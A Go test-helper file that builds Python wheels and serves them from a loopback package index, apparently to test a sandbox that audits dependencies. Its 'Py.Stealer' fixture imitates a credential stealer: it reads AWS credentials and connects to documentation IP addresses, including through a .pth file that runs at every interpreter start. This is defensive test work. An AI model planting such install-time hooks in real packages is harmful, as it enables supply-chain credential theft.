package audittest

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// Wheel is a pure-Python distribution to write as a wheel (PEP 427): a
// zip, written here, so that no build step runs on the host.
type Wheel struct {
	Name, Version string
	// Requires are its Requires-Dist lines.
	Requires []string
	// Files are its files, by path inside the wheel (beside the
	// .dist-info directory, which is generated).
	Files map[string]string
}

// FileName is the wheel's file name: NAME-VERSION-py3-none-any.whl.
func (w Wheel) FileName() string { return w.distName() + "-" + w.Version + "-py3-none-any.whl" }

func (w Wheel) distName() string { return regexp.MustCompile(`[-_.]+`).ReplaceAllString(w.Name, "_") }

// DistInfo is its metadata directory, the distribution's install path in
// profiles.
func (w Wheel) DistInfo() string { return w.distName() + "-" + w.Version + ".dist-info" }

// Bytes returns the wheel's content: its files, METADATA, WHEEL and a
// RECORD with every file's hash.
func (w Wheel) Bytes(t testing.TB) []byte {
	t.Helper()
	meta := "Metadata-Version: 2.1\nName: " + w.Name + "\nVersion: " + w.Version + "\n"
	for _, r := range w.Requires {
		meta += "Requires-Dist: " + r + "\n"
	}
	files := map[string]string{
		w.DistInfo() + "/METADATA": meta,
		w.DistInfo() + "/WHEEL":    "Wheel-Version: 1.0\nGenerator: depbox-audittest\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
	}
	for k, v := range w.Files {
		files[k] = v
	}
	names := make([]string, 0, len(files))
	for k := range files {
		names = append(names, k)
	}
	slices.Sort(names)
	var record strings.Builder
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	mtime := time.Date(1985, 10, 26, 8, 15, 0, 0, time.UTC)
	add := func(name, body string) {
		f, err := zw.CreateHeader(&zip.FileHeader{Name: name, Method: zip.Deflate, Modified: mtime})
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write([]byte(body)); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range names {
		sum := sha256.Sum256([]byte(files[name]))
		fmt.Fprintf(&record, "%s,sha256=%s,%d\n", name, base64.RawURLEncoding.EncodeToString(sum[:]), len(files[name]))
		add(name, files[name])
	}
	record.WriteString(w.DistInfo() + "/RECORD,,\n")
	add(w.DistInfo()+"/RECORD", record.String())
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

// WriteWheel writes w into dir under its file name and returns the path.
func WriteWheel(t testing.TB, dir string, w Wheel) string {
	t.Helper()
	p := filepath.Join(dir, w.FileName())
	if err := os.WriteFile(p, w.Bytes(t), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// Index is a PEP 503 simple repository served on loopback: /simple/ lists
// the projects, /simple/<normalised name>/ links each wheel with its
// sha256 in the URL fragment, /files/<name> serves it.
type Index struct {
	URL string // the index URL pip takes (…/simple/)

	mu     sync.Mutex
	files  map[string][]byte            // file name → content
	links  map[string]map[string]string // project → file name → listed sha256
	served []string
}

// NewIndex serves the wheels on 127.0.0.1 until the test ends.
func NewIndex(t testing.TB, wheels ...Wheel) *Index {
	t.Helper()
	ix := &Index{files: map[string][]byte{}, links: map[string]map[string]string{}}
	for _, w := range wheels {
		ix.Add(t, w)
	}
	srv := httptest.NewServer(http.HandlerFunc(ix.serve)) // on loopback
	t.Cleanup(srv.Close)
	ix.URL = srv.URL + "/simple/"
	return ix
}

// Add publishes w.
func (ix *Index) Add(t testing.TB, w Wheel) {
	t.Helper()
	b := w.Bytes(t)
	sum := sha256.Sum256(b)
	ix.mu.Lock()
	defer ix.mu.Unlock()
	ix.files[w.FileName()] = b
	p := normalize(w.Name)
	if ix.links[p] == nil {
		ix.links[p] = map[string]string{}
	}
	ix.links[p][w.FileName()] = hex.EncodeToString(sum[:])
}

// Tamper replaces the bytes served for w's file, leaving the sha256 the
// index lists for it unchanged (a compromised mirror or a bad proxy).
func (ix *Index) Tamper(w Wheel, content []byte) {
	ix.mu.Lock()
	defer ix.mu.Unlock()
	ix.files[w.FileName()] = content
}

// Served lists the paths requested so far.
func (ix *Index) Served() []string {
	ix.mu.Lock()
	defer ix.mu.Unlock()
	return slices.Clone(ix.served)
}

func normalize(name string) string {
	return strings.ToLower(regexp.MustCompile(`[-_.]+`).ReplaceAllString(name, "-"))
}

func (ix *Index) serve(w http.ResponseWriter, r *http.Request) {
	ix.mu.Lock()
	defer ix.mu.Unlock()
	ix.served = append(ix.served, r.URL.Path)
	switch p := r.URL.Path; {
	case p == "/simple/":
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, "<!DOCTYPE html><html><body>\n")
		for name := range ix.links {
			fmt.Fprintf(w, "<a href=\"%s/\">%s</a>\n", html.EscapeString(name), html.EscapeString(name))
		}
		fmt.Fprint(w, "</body></html>\n")
	case strings.HasPrefix(p, "/simple/"):
		name := strings.Trim(strings.TrimPrefix(p, "/simple/"), "/")
		files, ok := ix.links[name]
		if !ok || name != normalize(name) {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, "<!DOCTYPE html><html><body><h1>Links for %s</h1>\n", html.EscapeString(name))
		names := make([]string, 0, len(files))
		for f := range files {
			names = append(names, f)
		}
		slices.Sort(names)
		for _, f := range names {
			fmt.Fprintf(w, "<a href=\"../../files/%s#sha256=%s\">%s</a>\n", html.EscapeString(f), files[f], html.EscapeString(f))
		}
		fmt.Fprint(w, "</body></html>\n")
	case strings.HasPrefix(p, "/files/"):
		b, ok := ix.files[strings.TrimPrefix(p, "/files/")]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "application/octet-stream")
		_, _ = w.Write(b)
	default:
		http.NotFound(w, r)
	}
}

// The Python fixtures, served by an Index in the tests. Their code runs
// only inside depbox's sandbox and contacts only documentation addresses.
var (
	// PyHelper is a benign dependency.
	PyHelper = Wheel{Name: "py-helper", Version: "2.0",
		Files: map[string]string{"py_helper/__init__.py": "def pad(s):\n    return ' ' + s\n"}}
	// PyStealer reads the bait credentials and connects to
	// 198.51.100.23:443 when imported, and installs a .pth file whose code
	// reads AWS_SECRET_ACCESS_KEY and connects to 192.0.2.44:443 at every
	// interpreter start. It requires PyHelper.
	PyStealer = Wheel{Name: "Py.Stealer", Version: "1.0", Requires: []string{"py-helper>=2"},
		Files: map[string]string{
			"py_stealer/__init__.py": "# TEST FIXTURE imitating a credential stealer; runs only in depbox's sandbox.\n" +
				"import os, socket\nimport py_helper\n" +
				"try:\n    open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    pass\n" +
				"s = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(('198.51.100.23', 443))\nexcept OSError:\n    pass\n",
			"py_stealer_boot.py": "# TEST FIXTURE: a .pth payload; runs only in depbox's sandbox.\n" +
				"import os, socket\nk = os.environ.get('AWS_SECRET_ACCESS_KEY', '')\n" +
				"s = socket.socket()\ns.settimeout(1)\ntry:\n    s.connect(('192.0.2.44', 443))\nexcept OSError:\n    pass\n",
			"py_stealer.pth": "import py_stealer_boot\n",
		}}
)
